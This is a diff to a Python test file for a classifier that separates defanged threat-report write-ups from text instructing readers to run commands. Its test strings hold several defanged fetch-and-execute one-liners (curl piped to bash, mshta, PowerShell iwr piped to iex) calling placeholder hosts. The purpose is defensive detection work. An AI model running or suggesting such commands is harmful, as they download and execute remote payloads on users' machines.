@@ -73,6 +73,8 @@ def test_a_defanged_sample_set_apart_as_reports_set_it_is_quoted() -> None:
         "On macOS the page copies the following command:\n\n    curl -fsSL hxxps://a[.]test/i | bash\n\n"
         "The script then asks for the user's password in a dialog.",
         'A user reported that the clipboard held "mshta hxxps://a[.]test/v.hta" when they checked it.',
+        "Stage 1 was a one-liner copied by the page (iwr | iex from hxxp://198.51.100[.]7/a.ps1); "
+        "stage 2 dropped a RAT under the user's roaming profile.",
     ):
         assert is_sample_write_up(text), text
         assert not is_write_up(text), text  # backticks alone do not see these
@@ -85,3 +87,6 @@ def test_a_sample_with_an_order_or_a_command_outside_the_block_is_not() -> None:
     assert not is_sample_write_up(
         'To fix it, run: powershell -w h -c "iwr hxxps://a[.]test/p | iex"'
     )
+    # parentheses that open a line are a subshell, not a quote in a sentence
+    assert not is_sample_write_up("(iwr hxxps://a[.]test/p | iex)\nThe page copied that.")
+    assert not is_sample_write_up("Fix: (curl -s hxxps://a[.]test/s | sh) then press Enter")
